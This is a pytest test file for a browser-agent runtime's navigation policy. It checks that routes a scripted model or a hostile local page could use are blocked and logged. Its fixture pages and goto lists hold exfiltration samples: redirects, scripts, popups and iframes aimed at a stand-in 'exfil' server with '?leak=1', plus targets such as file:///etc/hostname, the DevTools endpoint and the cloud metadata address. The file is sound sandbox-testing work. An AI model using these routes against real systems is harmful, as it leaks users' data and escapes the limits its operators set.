@@ -1,0 +1,265 @@
+"""The navigation policy in real Chromium: every route a page or the model could take to
+a refused URL is blocked and recorded, the episode goes on, and nothing reaches a second
+"exfiltration" server."""
+
+from __future__ import annotations
+
+import re
+import threading
+from collections import Counter
+from collections.abc import Callable, Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from linewise.records import StepRecord
+from linewise.runtime.browser.chromium import Browser
+from linewise.runtime.episode import EpisodeResources, run_episode
+from linewise.runtime.tasks.schema import WebTask
+from linewise.runtime.trace import read_steps
+from linewise.testing import FunctionModel, bid_matching, prompt_section
+
+Page = tuple[int, dict[str, str], str]
+
+
+class Site:
+    """A local HTTP server answering from ``pages`` (path -> status, headers, body) and
+    counting every request it gets; ``{site}`` and ``{exfil}`` in pages are filled in."""
+
+    def __init__(self, pages: dict[str, Page] | None = None) -> None:
+        self.pages = pages or {}
+        self.hits: Counter[str] = Counter()
+        self.fill: dict[str, str] = {}
+        site = self
+
+        class Handler(BaseHTTPRequestHandler):
+            def log_message(self, format: str, *args: Any) -> None:
+                pass
+
+            def do_GET(self) -> None:
+                site.hits[self.path] += 1
+                status, headers, body = site.pages.get(
+                    self.path.split("?")[0], (200, {}, "<p>nothing here</p>")
+                )
+                self.send_response(status)
+                headers = {"Content-Type": "text/html", **headers}
+                for key, value in headers.items():
+                    self.send_header(key, value.format(**site.fill))
+                self.end_headers()
+                self.wfile.write(body.format(**site.fill).encode())
+
+            do_POST = do_GET
+
+        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self._server.daemon_threads = True
+        self.port = self._server.server_port
+        threading.Thread(target=self._server.serve_forever, daemon=True).start()
+
+    def close(self) -> None:
+        self._server.shutdown()
+        self._server.server_close()
+
+
+def _page(body: str) -> Page:
+    return 200, {}, f"<html><head><title>t</title></head><body>{body}</body></html>"
+
+
+SITE_PAGES: dict[str, Page] = {
+    "/": _page(
+        "<h1>Home</h1>"
+        "<a href='file:///etc/hostname'>file link</a> "
+        "<a href='chrome://version'>chrome link</a> "
+        "<a href='data:text/html,<p>data page</p>'>data link</a> "
+        "<a href='{exfil}/link?leak=1'>off link</a> "
+        "<a href='{exfil_alt}/blank' target='_blank'>blank link</a> "
+        "<a href='/r1'>redirect link</a> "
+        "<a href='/r-ok'>good redirect link</a> "
+        "<a href='/dl' download>download link</a> "
+        "<a href='/dl-nav'>download nav link</a>"
+    ),
+    "/r1": (302, {"Location": "/r2"}, ""),
+    "/r2": (302, {"Location": "{exfil}/redirected?leak=1"}, ""),
+    "/r-ok": (302, {"Location": "/r-ok2"}, ""),
+    "/r-ok2": (301, {"Location": "{site}/landed"}, ""),
+    "/landed": _page("<h1>Landed</h1>"),
+    "/dl": (200, {"Content-Disposition": "attachment; filename=report.csv"}, "a,b\n1,2\n"),
+    "/dl-nav": (200, {"Content-Disposition": "attachment; filename=nav.bin",
+                      "Content-Type": "application/octet-stream"}, "xyz"),
+    "/js": _page("<h1>JS</h1><script>setTimeout(() => location.href = "
+                 "'{exfil}/js?leak=1', 50)</script>"),
+    "/meta": (200, {}, "<html><head><meta http-equiv='refresh' content='0;url={exfil}/meta'>"
+                       "</head><body><h1>Meta</h1></body></html>"),
+    "/meta-file": (200, {}, "<html><head><meta http-equiv='refresh' "
+                            "content='0;url=file:///etc/hostname'></head>"
+                            "<body><h1>MetaFile</h1></body></html>"),
+    "/open": _page("<h1>Opener</h1><script>window.open('{exfil}/open?leak=1')</script>"),
+    "/iframe": _page("<h1>Frames</h1><iframe src='{exfil}/frame'></iframe>"
+                     "<iframe src='data:text/html,<p>framed data secret</p>'></iframe>"),
+    "/blob": _page("<h1>Blob</h1><script>location.href = URL.createObjectURL("
+                   "new Blob(['<p>blob secret</p>'], {{type: 'text/html'}}))</script>"),
+}
+
+
+@pytest.fixture
+def sites() -> Iterator[tuple[Site, Site]]:
+    site, exfil = Site(dict(SITE_PAGES)), Site()
+    fill = {"site": f"http://127.0.0.1:{site.port}", "exfil": f"http://localhost:{exfil.port}",
+            "exfil_alt": f"http://127.0.0.1:{exfil.port}"}
+    site.fill = exfil.fill = fill
+    try:
+        yield site, exfil
+    finally:
+        site.close()
+        exfil.close()
+
+
+Step = str | Callable[[str], str]
+
+
+def scripted(steps: list[Step]) -> FunctionModel:
+    """A model giving ``steps`` in order; a callable gets the page's AXTree."""
+
+    def answer(messages: list[dict[str, Any]], info: Any) -> str:
+        step = steps[info.index] if info.index < len(steps) else "send_msg_to_user('done')"
+        if callable(step):
+            step = step(prompt_section(messages[1]["content"], "Current page"))
+        return f"<think>next</think><action>{step}</action>"
+
+    return FunctionModel(answer)
+
+
+def click(text: str) -> Callable[[str], str]:
+    return lambda tree: f"click('{bid_matching(tree, re.escape(text))}')"
+
+
+def _task(site: Site, path: str = "/", steps: int = 20) -> WebTask:
+    return WebTask(id="policy", url=f"http://127.0.0.1:{site.port}{path}", goal="Look around.",
+                   max_steps=steps, allowed_domains=(f"127.0.0.1:{site.port}",))
+
+
+async def _run(browser: Browser, task: WebTask, steps: list[Step], out: Path
+               ) -> list[StepRecord]:
+    model = scripted([*steps, "send_msg_to_user('done')"])
+    summary = await run_episode(task, EpisodeResources(browser, model), out)
+    assert summary.status == "finished" and summary.termination == "agent_done", summary.error
+    records = read_steps(out / task.id)
+    assert summary.n_steps == len(steps) + 1 == len(records)
+    assert summary.blocked_navigations == sum(len(r.blocked) for r in records)
+    return records
+
+
+async def test_model_goto_to_every_refused_scheme_is_an_action_error(
+    browser: Browser, sites: tuple[Site, Site], tmp_path: Path
+) -> None:
+    site, exfil = sites
+    assert browser.devtools_port is not None
+    urls = [
+        "file:///etc/hostname", "file:///etc/", "chrome://version", "javascript:alert(1)",
+        "data:text/html,<p>hi</p>", f"view-source:http://127.0.0.1:{site.port}/",
+        f"blob:http://127.0.0.1:{site.port}/0b6f", "about:config",
+        f"http://localhost:{exfil.port}/goto?leak=1",
+        f"http://127.0.0.1:{browser.devtools_port}/json/list",
+        "http://169.254.169.254/latest/meta-data/",
+    ]
+    records = await _run(browser, _task(site), [f"goto({u!r})" for u in urls], tmp_path)
+    for url, record, seen_next in zip(urls, records, records[1:], strict=False):
+        assert [b.url for b in record.blocked] == [url]
+        assert record.blocked[0].initiator == "model"
+        assert "refused by the navigation policy" in (record.action_error or "")
+        assert url in (seen_next.last_action_error or "")  # the model is told
+        assert seen_next.url == f"http://127.0.0.1:{site.port}/"  # and stays put
+    reasons = {b.url: b.reason for r in records for b in r.blocked}
+    assert "DevTools" in reasons[urls[9]] and "metadata" in reasons[urls[10]]
+    assert "not on the allowlist" in reasons[urls[8]]
+    assert sum(exfil.hits.values()) == 0
+
+
+async def test_page_routes_off_the_allowlist_are_blocked_and_recorded(
+    browser: Browser, sites: tuple[Site, Site], tmp_path: Path
+) -> None:
+    site, exfil = sites
+    home = f"http://127.0.0.1:{site.port}/"
+    steps: list[Step] = [
+        click("file link"), click("chrome link"), click("data link"), click("off link"),
+        click("blank link"), click("redirect link"), f"goto('{home}js')", "noop(500)",
+        f"goto('{home}meta')", "noop(500)", f"goto('{home}meta-file')", f"goto('{home}open')",
+        f"goto('{home}iframe')", f"goto('{home}blob')", "noop(300)",
+    ]
+    records = await _run(browser, _task(site), steps, tmp_path)
+    by_step = {i: [(b.initiator, b.url) for b in r.blocked] for i, r in enumerate(records)}
+    exfil_url = f"http://localhost:{exfil.port}"
+    assert by_step[0] == [("page", "file:///etc/hostname")]
+    assert by_step[1] and by_step[1][0][1].startswith("chrome://version")
+    assert by_step[2] and by_step[2][0][1].startswith("data:text/html")
+    assert by_step[3] == [("page", f"{exfil_url}/link?leak=1")]
+    assert by_step[4] == [("popup", f"http://127.0.0.1:{exfil.port}/blank")]
+    assert by_step[5] == [("redirect", f"{exfil_url}/redirected?leak=1")]
+    assert ("page", f"{exfil_url}/js?leak=1") in by_step[6] + by_step[7]
+    assert ("page", f"{exfil_url}/meta") in by_step[8] + by_step[9]
+    assert ("page", "file:///etc/hostname") in by_step[10]
+    assert by_step[11] == [("popup", f"{exfil_url}/open?leak=1")]
+    assert sorted(i for i, _ in by_step[12]) == ["frame", "frame"]
+    assert [i for i, u in by_step[13] + by_step[14] if u.startswith("blob:")] == ["page"]
+    # The page stayed where it was, with one tab, and the model read about each block.
+    for index in (1, 2, 3, 4, 5, 6):
+        assert records[index].url == home and len(records[index].tabs) == 1
+        assert "The browser refused to open" in (records[index].last_action_error or "")
+    assert len(records[12].tabs) == 1  # the popup was closed
+    assert "framed data secret" not in records[13].axtree
+    assert "blob secret" not in records[-1].axtree
+    assert records[-1].url == f"{home}iframe"
+    assert site.hits["/r1"] == 1 and site.hits["/r2"] == 1
+    assert sum(exfil.hits.values()) == 0, exfil.hits
+
+
+async def test_a_redirect_chain_inside_the_allowlist_lands(
+    browser: Browser, sites: tuple[Site, Site], tmp_path: Path
+) -> None:
+    site, _ = sites
+    records = await _run(browser, _task(site), [click("good redirect link")], tmp_path)
+    assert records[-1].url == f"http://127.0.0.1:{site.port}/landed"
+    assert records[0].blocked == [] and records[0].action_error is None
+
+
+async def test_downloads_are_refused_by_default(
+    browser: Browser, sites: tuple[Site, Site], tmp_path: Path
+) -> None:
+    site, _ = sites
+    records = await _run(browser, _task(site),
+                         [click("download link"), click("download nav link")], tmp_path)
+    downloads = [d for r in records for d in r.downloads]
+    assert [d.filename for d in downloads] == ["report.csv", "nav.bin"]
+    assert all(d.refused and d.saved_as is None for d in downloads)
+    assert not (tmp_path / "policy" / "downloads").exists()
+
+
+async def test_downloads_flag_saves_inside_the_episode_folder(
+    sites: tuple[Site, Site], tmp_path: Path
+) -> None:
+    from linewise.runtime.browser.chromium import BrowserConfig
+    from linewise.settings import NavigationSettings
+
+    site, _ = sites
+    config = BrowserConfig(navigation=NavigationSettings(downloads=True))
+    async with Browser(config) as own:
+        records = await _run(own, _task(site), [click("download link")], tmp_path)
+    [download] = records[0].downloads
+    assert download.saved_as == "downloads/report.csv" and download.refused is None
+    assert (tmp_path / "policy" / "downloads" / "report.csv").read_text() == "a,b\n1,2\n"
+
+
+async def test_policy_off_lets_the_model_read_files(
+    sites: tuple[Site, Site], tmp_path: Path
+) -> None:
+    from linewise.runtime.browser.chromium import BrowserConfig
+    from linewise.settings import NavigationSettings
+
+    site, exfil = sites
+    config = BrowserConfig(navigation=NavigationSettings(enforce=False))
+    async with Browser(config) as own:
+        records = await _run(
+            own, _task(site), [f"goto('http://localhost:{exfil.port}/goto')"], tmp_path
+        )
+    assert records[0].blocked == [] and exfil.hits["/goto"] == 1
